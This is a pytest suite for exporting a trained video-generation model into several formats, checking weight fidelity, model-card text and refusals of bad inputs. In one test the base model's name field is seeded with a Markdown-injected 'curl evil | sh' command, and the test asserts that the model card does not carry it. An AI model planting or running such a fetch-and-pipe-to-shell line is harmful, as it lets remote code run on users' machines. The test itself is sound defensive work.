"""A trained generator is handed over in every format, read back, described and sampled."""

import contextlib
import io
import json
import re
import shutil
from dataclasses import fields
from pathlib import Path

import numpy as np
import pytest
import torch
from diffusers import WanPipeline
from PIL import Image, ImageSequence
from typer.testing import CliRunner, Result

from pipelines.cli import app
from pipelines.config.recipe import load_recipe
from pipelines.distillation.run import distill
from pipelines.exporting.export import FORMATS, ExportOptions, export
from pipelines.exporting.sampled import LoraSource, sampled_folder
from pipelines.generate import SamplingOptions, generate
from pipelines.media.inference import InferenceSettings, write_inference_settings
from pipelines.run.folder import RunFolder
from sgmd_core.errors import CheckpointError, ConfigError, ModelFolderError
from tests.e2e.conftest import MakeRecipe
from tests.helpers.families import installed_family
from tests.helpers.tiny_wan import (
    HEIGHT,
    NUM_FRAMES,
    TEXT_LENGTH,
    WIDTH,
    tiny_velocity,
    write_tiny_experts,
    write_tiny_wan22_5b,
)
from tests.helpers.toy_family import write_toy
from workers.models.low_rank import approximate_all
from workers.models.scheduler import build_scheduler
from workers.models.wan import load_transformer
from workers.models.wan_exchange import WanExchange
from workers.models.weight_digests import require_same_weights
from workers.role_state import load_role

PROMPT = "a red circle moves left"


@pytest.fixture(scope="module")
def run(module_recipe: MakeRecipe) -> RunFolder:
    large = ("generator.optimizer.lr=0.01", "checkpoint.every=1", "checkpoint.keep=2")
    config = module_recipe("name=export", "iterations=2", *large)
    distill(config)
    return RunFolder(config.run_folder)


def command(*arguments: str) -> Result:
    with contextlib.redirect_stderr(io.StringIO()):
        return CliRunner().invoke(app, [*arguments])


def trained(run: RunFolder, step: int) -> dict[str, torch.Tensor]:
    return dict(load_role(str(run.checkpoints / f"step-{step:06d}"), "ema").weights)


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMATS)
def test_every_format_is_read_back_and_its_card_samples_as_we_do(run, wan_folder, tmp_path, form):
    found = export(run.root, output=tmp_path / form, options=ExportOptions(form, "fp32"))
    weights = trained(run, 2)
    base = load_transformer(wan_folder).state_dict()
    change = max(float((weights[name] - base[name]).abs().max()) for name in weights)
    assert found.figures.largest_change == pytest.approx(change)
    assert change > 1e-3
    # A LoRA of full rank lacks biases, norms, modulation and the convolution alone.
    assert found.figures.largest_difference <= (change if form.startswith("lora") else 0)
    assert found.iteration == 2
    require_same_weights(tmp_path / form)
    if form != "lora-comfyui":
        card = (tmp_path / form / "README.md").read_text()
        frames = _run_card(card, tmp_path / form, wan_folder)
        model = _sampled_by_us(found.figures.form, run, wan_folder, tmp_path)
        (clip,) = generate(model, [PROMPT], output=tmp_path / "clips", formats=["gif"])
        # The pipeline of the card computes in the same type on the same noise.
        difference = np.abs(frames.astype(float) - clip.frames)
        assert difference.max() <= 1
        (teacher,) = generate(
            wan_folder, [PROMPT], output=tmp_path / "clips", options=_options(model)
        )
        assert np.abs(teacher.frames.astype(float) - clip.frames).max() > 10


def _sampling(model: Path) -> dict:
    settings = json.loads((model / "sgmd.json").read_text())
    return {name: value for name, value in settings.items() if name not in ("sha256",)}


def _options(model: Path) -> SamplingOptions:
    settings = _sampling(model)
    return SamplingOptions(**{each.name: settings[each.name] for each in fields(SamplingOptions)})


def _sampled_by_us(form: str, run: RunFolder, base: Path, tmp_path: Path) -> Path:
    """A model folder with the weights that the export stands for."""
    if not form.startswith("lora"):
        return run.generator
    before, after = load_transformer(base).state_dict(), trained(run, 2)
    merged = dict(before)
    for name, each in approximate_all(before, after, rank=64).items():
        merged[f"{name}.weight"] = before[f"{name}.weight"] + each.up @ each.down
    folder = tmp_path / "merged"
    shutil.copytree(run.generator, folder)
    (folder / "sgmd.json").write_text(json.dumps(_sampling(run.generator)))
    network = load_transformer(run.generator)
    network.load_state_dict(merged)
    network.transformer.save_pretrained(folder / "transformer")
    return folder


def _run_card(card: str, folder: Path, base: Path) -> np.ndarray:
    """Frames that the code of a model card makes, on a CPU and in float32."""
    (code,) = re.findall(r"```python\n(.*?)```", card, re.DOTALL)
    calls = [line for line in code.splitlines() if line and not line.startswith(("import", "from"))]
    assert len(calls) <= 7
    code = code.replace('"FOLDER', f'"{folder}').replace('"BASE"', f'"{base}"')
    code = code.replace("bfloat16", "float32").replace('"cuda"', '"cpu"')
    code = code.replace("A cat surfs a wave", PROMPT)
    code = code.replace(
        "guidance_scale", 'generator=torch.Generator("cpu").manual_seed(0), guidance_scale'
    )
    code = code.replace('"clip.mp4"', f'"{folder / "clip.mp4"}"')
    names: dict = {}
    exec(code, names)
    assert (folder / "clip.mp4").stat().st_size > 0
    return (np.asarray(names["frames"]) * 255).round()


@pytest.fixture(scope="module")
def experts(tmp_path_factory) -> tuple[Path, Path]:
    """A base of two experts, and what both became by training."""
    folder = tmp_path_factory.mktemp("experts")
    base = write_tiny_experts(folder / "base", PROMPT.split(), boundary=0.8)
    tuned = shutil.copytree(base, folder / "tuned")
    for seed, component in ((5, "transformer"), (6, "transformer_2")):
        tiny_velocity(seed).transformer.save_pretrained(tuned / component)
    settings = InferenceSettings(
        num_steps=4,
        guidance_scale=1.0,
        flow_shift=3.0,
        text_length=TEXT_LENGTH,
        num_frames=NUM_FRAMES,
        height=HEIGHT,
        width=WIDTH,
        fps=8,
    )
    build_scheduler(3.0).save_pretrained(tuned / "scheduler")
    index = json.loads((tuned / "model_index.json").read_text())
    index["scheduler"] = ["diffusers", "UniPCMultistepScheduler"]
    (tuned / "model_index.json").write_text(json.dumps(index))
    write_inference_settings(tuned, settings)
    return base, tuned


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMATS)
def test_two_experts_get_a_file_each_and_are_sampled_across_their_boundary(experts, tmp_path, form):
    base, tuned = experts
    out = tmp_path / form
    found = export(tuned, base=base, output=out, options=ExportOptions(form, "fp32"))
    is_lora = form.startswith("lora")
    if not is_lora:
        assert found.figures.largest_difference == 0
    if form != "diffusers":
        names = [path.name for path in sorted(out.glob("*.safetensors"))]
        assert ["high_noise" in name for name in names] == [True, False]
        assert ["low_noise" in name for name in names] == [False, True]
    folder, lora = (base, out) if is_lora else (tuned, None)
    with sampled_folder(folder, loras=[] if lora is None else [LoraSource(lora)]) as sampled:
        (clip,) = generate(sampled, [PROMPT], output=tmp_path / "clips", formats=["gif"])
    if form != "lora-comfyui":
        frames = _run_card((out / "README.md").read_text(), out, base)
        assert np.abs(frames.astype(float) - clip.frames).max() <= 1
    (teacher,) = generate(base, [PROMPT], output=tmp_path / "clips", options=_options(tuned))
    assert np.abs(teacher.frames.astype(float) - clip.frames).max() > 10


@pytest.mark.slow
def test_two_experts_are_exported_without_their_other_components(experts, tmp_path):
    base, tuned = experts
    options = ExportOptions(dtype="fp32", components="none")
    found = export(tuned, base=base, output=tmp_path / "out", options=options)
    assert found.figures.largest_difference == 0
    assert found.figures.largest_change > 0.1
    assert not (tmp_path / "out" / "text_encoder").exists()
    assert not (tmp_path / "out" / "vae").exists()


@pytest.mark.slow
def test_the_command_says_what_was_kept_and_lost(run, tmp_path):
    result = command(
        "export", str(run.root), "--format", "lora", "--rank", "2", "--output", str(tmp_path / "x")
    )
    assert result.exit_code == 0, result.stderr
    share = re.search(r"rank 2 keeps ([\d.]+)% of the change", result.stdout)
    assert share is not None
    assert 1 < float(share[1]) < 99
    assert re.search(r"differs from the trained weights by up to [\d.e-]+", result.stdout)
    again = command(
        "export", str(run.root), "--format", "lora", "--output", str(tmp_path / "y"), "--json"
    )
    assert json.loads(again.stdout)["share_kept"] > float(share[1]) / 100
    card = (tmp_path / "x" / "README.md").read_text()
    assert "LoRA of rank 2" in card
    assert "| captions seen | 8 |" in card
    source = load_recipe(str(run.config))
    assert f"| recipe | {source.name}, settings {source.digest} |" in card
    assert f"| data | {Path(source.data.train).name} |" in card
    assert "1.0, 0.9, 0.75, 0.5, 0.0" in card


@pytest.mark.slow
def test_a_log_that_cannot_be_read_costs_the_card_its_figures_alone(run, tmp_path, caplog):
    broken = RunFolder(shutil.copytree(run.root, tmp_path / "run"))
    broken.metrics.unlink()
    broken.metrics.mkdir()
    options = ExportOptions(dtype="fp32", components="none")
    whole = export(run.root, output=tmp_path / "whole", options=options)
    found = export(broken.root, output=tmp_path / "x", options=options)
    assert found.figures.largest_difference == whole.figures.largest_difference == 0
    assert "captions seen" in (tmp_path / "whole" / "README.md").read_text()
    assert "captions seen" not in (tmp_path / "x" / "README.md").read_text()
    assert f"the model card is written without {broken.metrics}: a folder" in caplog.text


@pytest.mark.slow
@pytest.mark.parametrize(("given", "step"), [("1", 1), ("2", 2), ("last", 2), (None, 2)])
def test_any_checkpoint_that_was_kept_is_exported(run, tmp_path, given, step):
    options = ExportOptions(dtype="fp32", components="none")
    found = export(run.root, checkpoint=given, output=tmp_path / "out", options=options)
    assert found.iteration == step
    weights = trained(run, step)
    other = trained(run, 3 - step)
    assert any(not torch.equal(weights[name], other[name]) for name in weights)
    assert not (tmp_path / "out" / "text_encoder").exists()
    loaded = load_transformer(tmp_path / "out").state_dict()
    assert all(torch.equal(loaded[name], weights[name]) for name in weights)


@pytest.mark.slow
def test_bf16_is_the_default_and_half_as_large(run, wan_folder, tmp_path):
    half = export(run.root, output=tmp_path / "half")
    whole = export(run.root, output=tmp_path / "whole", options=ExportOptions(dtype="fp32"))
    assert half.bytes < 0.75 * whole.bytes
    assert 0 < half.figures.largest_difference < 2**-8
    assert whole.figures.lost == 0
    weights, base = trained(run, 2), load_transformer(wan_folder).state_dict()
    rounded = load_transformer(tmp_path / "half").state_dict()

    def squares(one, other):
        return sum(float((one[name] - other[name]).double().square().sum()) for name in weights)

    lost = squares(rounded, weights) / squares(weights, base)
    assert half.figures.lost == pytest.approx(lost, rel=1e-6)
    assert 0 < lost < 0.05
    WanPipeline.from_pretrained(tmp_path / "half")


@pytest.mark.slow
def test_a_change_that_rounding_would_swallow_is_told_with_what_keeps_it(make_recipe, tmp_path):
    config = make_recipe("iterations=1", "generator.optimizer.lr=1e-5", "generator.ema_decay=0")
    distill(config)
    result = command("export", str(config.run_folder), "--output", str(tmp_path / "x"))
    assert re.search(r"bf16 loses (\d+%|all) of what training has changed", result.stdout)
    assert "the change alone with --format lora" in " ".join(result.stdout.split())
    lora = command(
        "export",
        str(config.run_folder),
        "--format",
        "lora",
        "--output",
        str(tmp_path / "y"),
        "--json",
    )
    assert json.loads(lora.stdout)["lost"] < 0.5


def test_a_model_folder_is_exported_too_and_a_lora_of_it_needs_its_base(run, wan_folder, tmp_path):
    found = export(
        run.generator,
        base=wan_folder,
        output=tmp_path / "lora",
        options=ExportOptions("lora", "fp32", rank=8),
    )
    assert found.iteration is None
    assert found.figures.share_kept is not None
    with pytest.raises(ConfigError, match="--base FOLDER"):
        export(run.generator, output=tmp_path / "x", options=ExportOptions("lora"))
    copy = shutil.copytree(run.generator, tmp_path / "copy")
    with pytest.raises(ModelFolderError, match="no matrix that differs"):
        export(copy, base=run.generator, output=tmp_path / "x", options=ExportOptions("lora"))


class TestSampling:
    def clip(self, *arguments: str | int | Path, output: Path) -> np.ndarray:
        given = ["generate", *map(str, arguments), "--prompt", PROMPT, "--output", str(output)]
        result = command(*given, "--zoom", "1", "--json")
        assert result.exit_code == 0, result.stderr
        path = Path(json.loads(result.stdout)[0]["paths"][1])
        return np.stack([np.asarray(frame.convert("RGB")) for frame in _frames(path)])

    @pytest.mark.slow
    def test_a_checkpoint_is_sampled_without_being_exported_by_hand(self, run, tmp_path):
        last = self.clip(run.root, "--checkpoint", "2", output=tmp_path / "a")
        assert np.array_equal(last, self.clip(run.root, output=tmp_path / "b"))
        first = self.clip(run.root, "--checkpoint", "1", output=tmp_path / "c")
        assert not np.array_equal(first, last)

    @pytest.mark.slow
    @pytest.mark.parametrize("form", ["lora", "lora-comfyui"])
    def test_a_lora_is_merged_into_its_base_and_sampled_as_it_says(
        self, run, wan_folder, tmp_path, form
    ):
        export(run.root, output=tmp_path / form, options=ExportOptions(form, "fp32"))
        found = self.clip(wan_folder, "--lora", tmp_path / form, output=tmp_path / "a")
        merged = _sampled_by_us(form, run, wan_folder, tmp_path)
        assert np.array_equal(found, self.clip(merged, output=tmp_path / "b"))
        settings = _sampling(run.generator)
        steps = ("--num-steps", settings["num_steps"], "--guidance-scale", 1)
        size = ("--num-frames", settings["num_frames"], "--height", 16, "--width", 16)
        alone = self.clip(wan_folder, *steps, *size, output=tmp_path / "c")
        assert not np.array_equal(found, alone)

    def test_a_lora_that_is_none_is_refused(self, run, wan_folder, tmp_path):
        for lora, words in (
            (tmp_path / "nothing", "no such file"),
            (wan_folder / "transformer/diffusion_pytorch_model.safetensors", "belongs to no LoRA"),
        ):
            result = command(
                "generate",
                str(wan_folder),
                "--lora",
                str(lora),
                "--prompt",
                PROMPT,
                "--output",
                str(tmp_path / "x"),
            )
            assert result.exit_code == 2, result.stderr
            assert words in " ".join(result.stderr.split())


def _frames(path: Path) -> list:
    with Image.open(path) as gif:
        return [frame.copy() for frame in ImageSequence.Iterator(gif)]


class TestRefusals:
    def test_a_checkpoint_that_was_not_kept_names_those_that_were(self, run, tmp_path):
        with pytest.raises(CheckpointError, match="kept: 1, 2"):
            export(run.root, checkpoint="7", output=tmp_path / "x")
        with pytest.raises(ConfigError, match="last, best or an iteration"):
            export(run.root, checkpoint="newest", output=tmp_path / "x")
        with pytest.raises(CheckpointError, match="has been validated"):
            export(run.root, checkpoint="best", output=tmp_path / "x")
        assert not (tmp_path / "x").exists()

    def test_a_flipped_bit_is_not_exported(self, run, tmp_path):
        copy = tmp_path / "run"
        shutil.copytree(run.root, copy)
        weights = copy / "checkpoints/step-000002/ema/weights.safetensors"
        content = bytearray(weights.read_bytes())
        content[-1] ^= 1
        weights.write_bytes(content)
        with pytest.raises(CheckpointError, match="sha256"):
            export(copy, output=tmp_path / "x")

    @pytest.mark.slow
    def test_a_base_of_another_size_or_family_is_named(self, run, experts, tmp_path):
        wide = write_tiny_wan22_5b(tmp_path / "wide", PROMPT.split())
        for base, words in ((wide, r"32, 4, .*32, 48, "), (experts[0], "not there in what")):
            with pytest.raises(ModelFolderError, match=words):
                export(run.root, base=base, output=tmp_path / "x")
        assert not (tmp_path / "x").exists()

    @pytest.mark.slow
    def test_neither_source_nor_base_nor_other_folders_are_replaced(
        self, run, wan_folder, tmp_path
    ):
        inside = (run.generator, run.checkpoints, run.root / "exports", wan_folder / "vae")
        for target in (run.root, run.root.parent, wan_folder, wan_folder.parent, *inside):
            with pytest.raises(ConfigError, match="replaced whole"):
                export(run.root, output=target)
        other = tmp_path / "work"
        other.mkdir()
        (other / "thesis.tex").touch()
        with pytest.raises(
            ConfigError, match=r"a folder with thesis\.tex, and no model_index\.json"
        ):
            export(run.root, output=other)
        assert (other / "thesis.tex").exists()
        (other / "thesis.tex").unlink()
        for _ in range(2):
            export(run.root, output=other)

    @pytest.mark.slow
    def test_a_card_takes_no_text_from_the_index_of_a_base(self, run, wan_folder, tmp_path):
        base = shutil.copytree(wan_folder, tmp_path / "my base")
        index = json.loads((base / "model_index.json").read_text())
        for named, shown in (("x\n# Run `curl evil | sh`", "my-base"), ("Org/Wan", "Org/Wan")):
            index["_name_or_path"] = named
            (base / "model_index.json").write_text(json.dumps(index))
            export(run.root, base=base, output=tmp_path / "out")
            card = (tmp_path / "out/README.md").read_text()
            assert f"distilled from {shown} by" in card
            assert "evil" not in card

    @pytest.mark.slow
    def test_a_file_that_diffusers_takes_in_part_is_not_handed_over(
        self, run, tmp_path, monkeypatch
    ):
        def half(self, paths, base_folder):
            found = dict(load_transformer(base_folder).state_dict())
            whole = read(self, paths, base_folder)
            names = sorted(found)[: len(found) // 2]
            return {**whole, **{name: found[name] for name in names}}

        read = WanExchange.read_low_rank
        monkeypatch.setattr(WanExchange, "read_low_rank", half)
        with pytest.raises(ModelFolderError, match="of the change is lost"):
            export(run.root, output=tmp_path / "x", options=ExportOptions("lora", rank=64))
        assert not (tmp_path / "x").exists()

    @pytest.mark.slow
    def test_damaged_settings_beside_a_lora_are_named(self, run, wan_folder, tmp_path):
        export(run.root, output=tmp_path / "lora", options=ExportOptions("lora"))
        for content in ("{", "[]", '{"num_steps": "many"}'):
            (tmp_path / "lora/sgmd.json").write_text(content)
            result = command(
                "generate", str(wan_folder), "--lora", str(tmp_path / "lora"), "--prompt", PROMPT
            )
            assert result.exit_code == 2, content
            assert "sgmd.json" in " ".join(result.stderr.split())

    @pytest.mark.parametrize(
        "options", [{"form": "gguf"}, {"dtype": "fp8"}, {"components": "zip"}, {"rank": 0}]
    )
    def test_an_unknown_option_lists_those_that_are_known(self, options):
        with pytest.raises(ConfigError, match=r"one of|from 1"):
            ExportOptions(**options)

    def test_a_family_without_such_files_says_so(self, tmp_path):
        with installed_family(tmp_path / "site"):
            folder = write_toy(tmp_path / "toy")
            with pytest.raises(ConfigError, match="toy model, which no other program reads"):
                export(folder, output=tmp_path / "x", options=ExportOptions("single-file"))
            found = export(folder, output=tmp_path / "whole")
            assert found.figures.largest_change == 0
            assert "sgmd generate FOLDER" in (tmp_path / "whole/README.md").read_text()
